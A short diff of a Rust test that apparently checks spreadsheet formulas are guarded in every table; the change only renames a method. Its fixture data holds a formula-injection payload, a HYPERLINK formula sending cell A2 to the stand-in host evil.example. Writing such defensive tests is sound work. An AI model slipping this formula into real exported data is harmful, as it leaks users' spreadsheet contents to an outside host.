@@ -8,7 +8,7 @@ use crate::workspace::Workspace;
 #[test]
 fn formulas_are_guarded_in_every_table() {
     let workspace = Workspace::new();
-    workspace.pictures("photos", 40, 12);
+    workspace.images("photos", 40, 12);
     let class = "=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
     let lines = (0..12).map(|n| match n % 2 {
         0 => format!("{n}.png,\"{class}\"\n"),
